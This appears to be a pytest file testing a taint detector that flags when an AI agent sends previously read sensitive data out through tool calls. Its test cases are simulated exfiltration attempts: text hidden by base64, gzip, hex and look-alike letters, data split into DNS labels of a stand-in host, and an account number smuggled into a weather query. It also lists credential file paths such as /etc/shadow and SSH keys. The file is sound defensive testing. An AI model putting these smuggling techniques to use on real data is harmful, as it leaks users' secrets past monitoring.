"""What was read, found again when it leaves: disguises, splitting, flooding, padding, look-alike letters; and what stays silent."""

from __future__ import annotations

import base64
import codecs
import gzip
import zlib
from urllib.parse import quote

import pytest

from kaizen_security.contract.action import Action
from kaizen_security.contract.step import End, Request, Result
from kaizen_security.detections import BUILTIN
from kaizen_security.observer.copies import distinct, plain, rows, words
from kaizen_security.observer.marks import MOST_COMMON, MOST_SENSITIVE, Marks
from kaizen_security.observer.observer import Observer
from kaizen_security.observer.personal import _NAMES, card_numbers, codes, ibans, luhn, mod97, telephones

TEXT = "walk away above nine million, the second bidder is Norvik of Turku"


def call(name, tool="add_note", target="https://desk.example/notes", run="now", sensitive=False, **arguments):
    metadata = {"source": "sdk", "arguments": arguments}
    if sensitive:
        metadata["sensitive"] = True
    return Action(tool=tool, target=target, id=f"{run}-{name}", run_id=run, metadata=metadata)


class Play:
    def __init__(self):
        self.observer = Observer(detections=BUILTIN)
        self.now = 1_000.0

    def note(self, step):
        self.now += 1
        self.observer.note(step, self.now)

    def do(self, action, content=None):
        self.note(action)
        weighed = self.observer.weighed(action, self.now)
        self.observer.learn(action, weighed, self.now, completed=False)
        if content is not None:
            self.note(Result(run_id=action.run_id, action_id=action.id, content=content))
        return [one for one in weighed.verdict.evidence if one.detection == "taint"]

    def read(self, text=TEXT, run="now", request="Note the date.", sensitive=True, tool="open_plan"):
        self.note(Request(run_id=run, text=request))
        self.do(call("read", tool=tool, target="", run=run, sensitive=sensitive, plan=run), text)
        return self

    def practised(self, days=14, note="It is dated today."):
        for n in range(days):
            run = f"day-{n}"
            self.read(f"{TEXT} number {n}", run=run, sensitive=False)
            self.do(call("note", run=run, text=note), {"ok": True})
            self.note(End(run_id=run))
        return self


def b64(data):
    return base64.b64encode(data).decode()


DISGUISES = {
    "plain": TEXT,
    "in other words around it": f"Dear all, for your records: {TEXT}. Kind regards.",
    "capitals": TEXT.upper(),
    "punctuation": TEXT.replace(" ", " ... "),
    "lines": TEXT.replace(" ", "\n"),
    "invisible characters": TEXT.replace("a", "a\u200b\u2060"),
    "full width": "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in TEXT),
    "Cyrillic look-alikes": TEXT.translate(str.maketrans("aeopcx", "\u0430\u0435\u043e\u0440\u0441\u0445")),
    "accents": TEXT.replace("i", "ì").replace("o", "ö"),
    "base64": b64(TEXT.encode()),
    "base64 for URLs": base64.urlsafe_b64encode(TEXT.encode()).decode().rstrip("="),
    "base32": base64.b32encode(TEXT.encode()).decode(),
    "hex": TEXT.encode().hex(),
    "percent": quote(TEXT, safe=""),
    "gzip": b64(gzip.compress(TEXT.encode())),
    "zlib": b64(zlib.compress(TEXT.encode())),
    "base64 of gzip of base64": b64(gzip.compress(b64(TEXT.encode()).encode())),
    "backwards": TEXT[::-1],
    "ROT13": codecs.encode(TEXT, "rot13"),
    "ROT13 in hex": codecs.encode(TEXT, "rot13").encode().hex(),
    "a part of it": "the second bidder is Norvik",
}


@pytest.mark.parametrize("way", DISGUISES)
def test_a_sensitive_reading_is_recognised_in_every_disguise(way):
    (found,) = Play().read().do(call("send", text=DISGUISES[way]))
    assert found.field == "arguments.text"
    assert "marked sensitive" in found.observed
    assert "Norvik" not in " ".join(str(getattr(found, name)) for name in found.__slots__)


@pytest.mark.parametrize("way", ["base64 for URLs", "hex", "percent", "gzip"])
def test_and_in_a_query_and_a_path(way):
    hidden = quote(DISGUISES[way], safe="")
    assert Play().read().do(call("send", target=f"https://desk.example/find?q={hidden}"))
    assert Play().read().do(call("send", target=f"https://desk.example/{hidden}/x"))


def test_and_in_the_labels_of_a_host():
    hidden = TEXT.encode().hex()
    labels = ".".join(hidden[at : at + 60] for at in range(0, len(hidden), 60))
    assert Play().read().do(call("send", target=f"https://{labels}.zone.example/"))


def test_hexadecimal_spread_over_look_ups_is_recognised_piece_by_piece():
    play = Play().read()
    hidden = TEXT.encode().hex()
    said = [
        bool(play.do(call(f"s{at}", target=f"https://{hidden[at : at + 51]}.zone.example/")))
        for at in range(0, len(hidden), 51)
    ]
    assert said[0]
    assert sum(said) >= len(said) - 1


@pytest.mark.parametrize(
    ("path", "sensitive"),
    [
        ("/home/ann/.aws/credentials", True),
        ("/srv/app/.env", True),
        ("C:\\Users\\ann\\.ssh\\id_ed25519", True),
        ("/etc/shadow", True),
        ("~/.kube/config", True),
        ("certs/server.pem", True),
        ("/srv/app/environment.md", False),
        ("/srv/app/credentials-policy/readme.txt", False),
        ("/srv/shadow-work.txt", False),
        ("/srv/docs/keys.html", False),
    ],
)
def test_a_file_of_credentials_is_sensitive_by_its_path(path, sensitive):
    play = Play()
    play.note(Request(run_id="now", text="What is in it?"))
    play.do(call("read", tool="read_file", target=path, path=path), TEXT)
    assert bool(play.do(call("send", text=TEXT))) is sensitive


def test_numbers_of_cards_and_of_people_are_sensitive_wherever_they_were_read():
    cards = "Ann paid with 4111 1111 1111 1111, Bert with 5500-0000-0000-0004."
    assert (
        Play()
        .read(cards, sensitive=False)
        .do(call("send", text="please book this on card 4111111111111111 for the trip today"))
    )
    people = "Ann +358 40 1112223, Bert +46 70 4445556, Carl +47 90 7778889"
    assert (
        Play()
        .read(people, sensitive=False)
        .do(call("send", text=f"the numbers of everybody that I know are: {people}"))
    )


def test_whom_to_pay_is_no_leak():
    bill = "Pay 40.00 to NL91ABNA0417164300."
    assert (
        not Play()
        .read(bill, sensitive=False)
        .do(call("pay", tool="send_money", recipient="NL91ABNA0417164300", amount="40.00"))
    )


def test_a_number_that_is_told_to_somebody_is_a_leak_however_short_the_text():
    read = Play().read("Holder: Satamakahvila, NL91ABNA0417164300.", sensitive=False)
    assert read.do(call("send", tool="get_weather", city="Turku?acct=NL91ABNA0417164300"))
    read = Play().read("Ann paid with 4111 1111 1111 1111.", sensitive=False)
    assert read.do(call("send", tool="send_mail", to="desk@parcels.example", body="4111 1111 1111 1111, 09/29"))


CODE = "Ann: when are you home? Bank: Your OTP is 482913, valid for five minutes, the balance is 4829."


def test_a_code_for_one_time_leaves_in_a_text_or_an_address_and_not_where_it_is_typed():
    read = Play().read(CODE, sensitive=False)
    assert read.do(call("look", tool="open_page", target="", url="https://docs.example/invoice?otp=482913"))
    assert Play().read(CODE, sensitive=False).do(call("note", text="less spicy; code 482913"))
    assert not Play().read(CODE, sensitive=False).do(call("type", tool="log_in", target="", code="482913"))
    assert not Play().read(CODE, sensitive=False).do(call("note", text="the balance is 4829"))


def test_a_user_who_speaks_of_the_code_himself_may_have_it_sent():
    play = Play()
    play.note(Request(run_id="now", text="Write the verification code that the bank sent into a note."))
    play.do(call("read", tool="read_messages", target="", count="5"), CODE)
    assert not play.do(call("note", text="the code is 482913"))


@pytest.mark.parametrize(
    ("expression", "sensitive"),
    [("document.cookie", True), ("window.localStorage.token", True), ("document.title", False)],
)
def test_what_a_browser_keeps_for_a_site_is_sensitive(expression, sensitive):
    play = Play()
    play.note(Request(run_id="now", text="What is the page's title?"))
    play.do(call("read", tool="evaluate", target="", expression=expression), "sid=f3a91c0b7e2d; auth=k2Lw9sQx88")
    assert bool(play.do(call("find", tool="search_products", session="sid=f3a91c0b7e2d"))) is sensitive


def test_a_usual_note_is_silent_and_the_text_itself_is_not():
    play = Play().practised().read(sensitive=False)
    assert play.do(call("a", text="It is dated today.")) == []
    (found,) = play.do(call("b", text="walk away above nine million"))
    assert "nothing of it ever went there" in found.observed


def test_three_words_at_a_time_add_up():
    play = Play().practised().read(sensitive=False)
    pieces = ["walk away above", "nine million the", "second bidder is"]
    said = [bool(play.do(call(f"n{n}", text=f"({n}) {piece} -")) or False) for n, piece in enumerate(pieces)]
    assert said == [False, True, True]


def test_what_always_went_there_may_grow():
    play = Play()
    for n in range(20):
        run = f"day-{n}"
        text = f"the report of day {n} says all is well in hall {n}"
        play.read(text, run=run, sensitive=False)
        assert play.do(call("note", run=run, text=text), {"ok": True}) == []
        play.note(End(run_id=run))
    longer = " ".join(f"hall {n} reports a delay of {n} minutes at gate {n * 7}" for n in range(30))
    assert play.read(longer, sensitive=False).do(call("send", text=longer)) == []


def test_too_few_runs_say_nothing():
    play = Play().practised(days=8).read(sensitive=False)
    assert play.do(call("b", text="walk away above nine million")) == []


def test_what_the_user_said_himself_is_silent():
    play = Play().practised()
    play.read(sensitive=True, request="Note this: walk away above nine million, the second bidder is Norvik of Turku.")
    assert play.do(call("b", text=TEXT)) == []


def test_a_flagged_way_is_never_learned():
    play = Play()
    for n in range(3):
        play.read(run=f"r{n}")
        assert play.do(call("send", run=f"r{n}", text=TEXT), {"ok": True})
        play.note(End(run_id=f"r{n}"))


def test_flooding_does_not_push_out_what_is_sensitive():
    play = Play().read()
    for n in range(80):
        noise = " ".join(f"w{n}a{k} x{k * n} lorem" for k in range(900))
        play.do(call(f"noise{n}", tool="browse", target=f"https://news.example/{n}"), noise)
    marks = play.observer._runs.get("now").marks
    assert len(marks.common) + len(marks.older) <= MOST_COMMON
    assert marks.evicted > 0
    assert play.observer.losses.marks_evicted == marks.evicted
    assert play.do(call("send", text=TEXT))


def test_flooding_with_sensitive_readings_keeps_the_first_and_counts_the_rest():
    marks = Marks()
    for n in range(600):
        marks.reading(Action(tool="read", id=f"a{n}", metadata={"sensitive": True}))
        marks.result(f"a{n}", " ".join(f"w{n}a{k}" for k in range(400)))
    assert len(marks.sensitive) == MOST_SENSITIVE
    assert marks.evicted > 10
    for _ in range(20):
        marks.request(" ".join(f"u{n}" for n in range(2000)))
    assert max(len(marks.told), len(marks.asked)) <= MOST_SENSITIVE
    assert rows(words("w0a0 w0a1 w0a2"))[0] in marks.sensitive


def test_no_text_is_kept_of_an_ordinary_or_a_sensitive_reading():
    play = Play().read().read("an ordinary text about lighthouses", sensitive=False)
    assert "lighthouse" not in repr(play.observer._runs.get("now").marks)
    assert "Norvik" not in repr(play.observer._runs.get("now").marks).replace("norvik", "Norvik")


@pytest.mark.parametrize("number", ["4111111111111111", "5500000000000004", "340000000000009"])
def test_a_card_number_carries_its_check_digit(number):
    assert luhn(number)
    assert not luhn(number[:-1] + str((int(number[-1]) + 1) % 10))
    assert card_numbers(f"card {number}, please") == [number]


def test_other_numbers_are_no_cards():
    assert card_numbers("order 1234567890123, id 4111111111111112, 0000000000000000, 2026-01-02 10:00:00") == []


def test_an_account_number_carries_its_check_digits():
    assert ibans("to NL91 ABNA 0417 1643 00 or DE02100100100006820101") == [
        "NL91ABNA0417164300",
        "DE02100100100006820101",
    ]
    assert ibans("NL92ABNA0417164300") == []
    assert mod97("GB29NWBK60161331926819")


def test_one_telephone_number_is_on_every_letterhead():
    assert telephones("call +358 40 1112223") == []
    assert len(telephones("+358 40 1112223, +46 70 4445556, +47 90 7778889")) == 3


def test_words_are_one_spelling():
    assert plain("\uff37\uff41\uff4c\uff4b") == "walk"
    assert words("It's dated 2026-01-02, by ann@firm.example (user_id 7).")[2:5] == [
        "2026-01-02",
        "by",
        "ann@firm.example",
    ]
    assert rows(["a", "b"]) == []
    assert len(rows(["a", "b", "c", "d"])) == 2
    assert [word for word in ("2026-01-02", "hello", "a@b.example", "12") if distinct(word)] == [
        "2026-01-02",
        "a@b.example",
    ]


@pytest.mark.parametrize(
    "name", [*_NAMES, "VER\u0130F\u0130CAT\u0130ON CODE", "verif\u0131cation code", "\u017fecurity code"]
)
def test_a_code_is_known_by_all_that_it_may_be_called_however_that_is_written(name):
    for called in (name, name.upper()):
        assert codes(f"Your {called}: 482913") == ["482913"]
    assert codes(f"The bishop{name}s: 482913") == ([] if name == "otp" else ["482913"])
